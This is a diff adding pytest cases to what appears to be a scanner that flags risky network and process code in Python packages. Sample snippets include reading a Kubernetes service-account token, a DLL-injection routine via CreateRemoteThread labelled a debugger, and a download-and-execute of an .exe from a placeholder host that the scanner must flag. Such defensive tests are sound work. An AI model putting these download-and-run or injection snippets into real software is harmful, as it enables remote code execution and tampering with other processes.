@@ -714,3 +714,76 @@ def test_a_build_hook_the_backend_loads_is_install_code(pyproject: str, hook: st
         "demo-1.0.tar.gz",
     )
     assert not any(f.rule == "install-network" for f in elsewhere.findings)
+
+
+EVERYDAY = {
+    # A server binary named after the latest release's tag, downloaded and started.
+    "release tag in a program's path": """\
+import httpx, subprocess
+from pathlib import Path
+
+def connect(cache):
+    tag = httpx.get("https://api.github.com/repos/demo/server/releases/latest").json()["tag_name"]
+    binary = Path(cache, "server-" + tag)
+    return subprocess.Popen([str(binary), "--port", "8080"])
+""",
+    # Repositories a user owns, cloned: a URL from the network as a program's argument.
+    "cloned URL": """\
+import json, subprocess
+from urllib.request import urlopen
+
+def connect(user):
+    repos = json.loads(urlopen("https://api.github.com/users/" + user + "/repos").read())
+    for repo in repos:
+        subprocess.call(["git", "clone", repo["clone_url"]])
+""",
+    # An in-cluster client: the pod's token in a request's headers to the cluster's API.
+    "token in a Request's headers": """\
+import os, urllib.request
+
+def connect():
+    token = open("/var/run/secrets/kubernetes.io/serviceaccount/token").read()
+    host = os.environ["KUBERNETES_SERVICE_HOST"]
+    request = urllib.request.Request(f"https://{host}/api", headers={"Authorization": f"Bearer {token}"})
+    return urllib.request.urlopen(request).read()
+""",
+    # A debugger attaching to another process.
+    "debugger attach": """\
+import ctypes
+
+def connect(process, dll):
+    kernel32 = ctypes.windll.kernel32
+    remote = kernel32.VirtualAllocEx(process, 0, len(dll), 0x3000, 0x04)
+    kernel32.WriteProcessMemory(process, remote, dll, len(dll), None)
+    kernel32.CreateRemoteThread(process, None, 0, kernel32.LoadLibraryW, remote, 0, None)
+""",
+    # A tool installer: a runtime's archive downloaded, its program run, when asked.
+    "runtime installer": """\
+import subprocess, urllib.request
+
+def connect(version):
+    data = urllib.request.urlopen(f"https://nodejs.org/dist/{version}/node.zip").read()
+    open("node.zip", "wb").write(data)
+    subprocess.Popen(["node.exe", "--version"])
+""",
+}
+
+
+@pytest.mark.parametrize("case", sorted(EVERYDAY))
+def test_everyday_shapes_of_network_and_process_code_pass(case: str) -> None:
+    rules, held = _scan(EVERYDAY[case])
+    assert not held, rules
+
+
+def test_a_programs_own_url_downloaded_and_run_in_a_function_is_held() -> None:
+    rules, held = _scan(
+        """\
+import requests, subprocess
+
+def connect():
+    data = requests.get("https://raw.example.com/tools/pics.exe").content
+    open("pics.exe", "wb").write(data)
+    subprocess.Popen("pics.exe")
+"""
+    )
+    assert held, rules
